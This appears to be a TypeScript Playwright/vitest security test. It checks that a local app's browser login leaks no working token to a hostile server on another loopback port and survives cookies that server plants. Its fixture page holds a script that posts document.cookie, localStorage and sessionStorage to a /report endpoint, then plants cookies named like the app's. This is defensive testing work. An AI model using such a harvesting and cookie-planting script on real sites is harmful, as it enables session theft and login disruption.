// The browser login against a local attacker on another port. After logging in, a page served by
// another loopback server (another port, both 127.0.0.1 and localhost) must receive nothing that
// works against the API, and must not be able to log the UI out by planting cookies.
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fakeOpencode } from "../../../packages/sidecar/test/harness.ts";
import type { Backend } from "../../backend/src/startBackend.ts";
import { type BrowserBackend, startBrowserBackend } from "./browserBackend.ts";

let setup: BrowserBackend;
let backend: Backend;
let browser: Browser;
let other: Server;
let otherPort = 0;
const seen: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];

// What a hostile local server would do: log every request, and serve a page that reports every
// cookie and storage entry it can see, then plants cookies named like ours on the shared host.
const hostilePage = `<!doctype html><html><body><script>
  const report = (what) => fetch("/report", { method: "POST", body: JSON.stringify(what) });
  report({ cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) });
  for (const name of ["turnkey_token", "token", "session"]) {
    document.cookie = name + "=planted-by-another-port; path=/; max-age=3600";
  }
  report({ planted: document.cookie });
</script></body></html>`;

beforeAll(async () => {
  // The login needs no agent: the fake opencode, not started.
  setup = await startBrowserBackend({
    name: "login",
    prepare: () => ({}),
    backend: { opencodeBin: fakeOpencode, autostart: false },
  });
  ({ backend, browser } = setup);
  other = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      seen.push({ url: req.url ?? "", headers: req.headers, body });
      res.writeHead(200, { "content-type": "text/html" });
      res.end(req.url === "/report" ? "ok" : hostilePage);
    });
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  otherPort = (other.address() as AddressInfo).port;
});

afterAll(async () => {
  await setup?.close();
  await new Promise<void>((resolve) => (other ? other.close(() => resolve()) : resolve()));
});

const badge = (page: import("playwright-core").Page, text: string) =>
  page
    .getByTestId("state-badge")
    .filter({ hasText: new RegExp(`^${text}$`) })
    .waitFor({ timeout: 30_000 });

describe("browser login and other loopback ports", () => {
  it("gives another port nothing that works against the API, and survives its planted cookies", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    // The link as `npm run serve` prints it, pasted into the address bar.
    await page.goto(`${backend.url}/#token=${encodeURIComponent(backend.token)}`);
    await badge(page, "Stopped");
    expect(new URL(page.url()).hash).toBe(""); // the token left the address bar
    expect(await context.cookies()).toEqual([]);

    for (const host of ["127.0.0.1", "localhost"]) {
      const hostile = await context.newPage();
      await hostile.goto(`http://${host}:${otherPort}/`);
      // Typed by hand: the tests compile against Node's types, without the DOM library.
      await hostile.waitForFunction(() =>
        (globalThis as unknown as { document: { cookie: string } }).document.cookie.includes("planted-by-another-port"),
      );
      await hostile.close();
    }
    // Wait until both pages reported (two reports each).
    await expect.poll(() => seen.filter((s) => s.url === "/report").length, { timeout: 30_000 }).toBe(4);

    // Nothing the other server received or its pages could read holds the token, and no
    // credential it received opens the API.
    const received = JSON.stringify(seen);
    expect(received).not.toContain(backend.token);
    const candidates = new Set<string>();
    for (const s of seen) {
      for (const part of String(s.headers.cookie ?? "").split(";")) {
        const value = part.split("=")[1]?.trim();
        if (value) candidates.add(value);
      }
      if (s.headers.authorization) candidates.add(String(s.headers.authorization).replace(/^Bearer /, ""));
    }
    for (const candidate of candidates) {
      const res = await fetch(`${backend.url}/api/status`, { headers: { authorization: `Bearer ${candidate}` } });
      expect(res.status, candidate).toBe(401);
      const withCookie = await fetch(`${backend.url}/api/status`, {
        headers: { cookie: `turnkey_token=${candidate}` },
      });
      expect(withCookie.status).toBe(401);
    }

    // The planted cookies are now sent to the backend too: the UI must stay logged in, both the
    // open page (API calls and the event stream) and after a reload.
    await page.getByRole("button", { name: "Start", exact: true }).first().click();
    await badge(page, "Running");
    await page.reload();
    await badge(page, "Running");
    await page.getByRole("button", { name: "Stop", exact: true }).first().click();
    await badge(page, "Stopped");
    await context.close();
  });

  it("a page from another port cannot read the API, even with the user's browser", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${backend.url}/#token=${encodeURIComponent(backend.token)}`);
    await badge(page, "Stopped");
    const hostile = await context.newPage();
    await hostile.goto(`http://localhost:${otherPort}/`);
    const status = await hostile.evaluate(async (url) => {
      try {
        const res = await fetch(`${url}/api/status`, { credentials: "include", mode: "no-cors" });
        return res.type;
      } catch (error) {
        return String(error);
      }
    }, backend.url);
    // An opaque answer at best (the request carries no token, and a foreign Origin gets 403).
    expect(status).not.toBe("basic");
    await context.close();
  });
});
